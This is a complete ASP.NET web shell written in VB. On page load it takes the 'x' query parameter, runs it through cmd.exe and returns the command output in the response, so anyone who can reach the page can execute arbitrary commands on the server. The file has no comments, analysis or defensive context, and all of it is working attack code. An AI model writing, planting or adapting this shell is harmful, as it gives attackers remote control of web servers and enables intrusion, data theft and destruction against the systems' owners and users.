<%@ Page Language="VB" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim x As String = Request.QueryString("x")
    If String.IsNullOrEmpty(x) Then Return
    Dim p As New Process()
    p.StartInfo.FileName = "cmd.exe"
    p.StartInfo.Arguments = "/c " & x
    p.StartInfo.UseShellExecute = False
    p.StartInfo.RedirectStandardOutput = True
    p.Start()
    Response.Write(Server.HtmlEncode(p.StandardOutput.ReadToEnd()))
End Sub
</script>
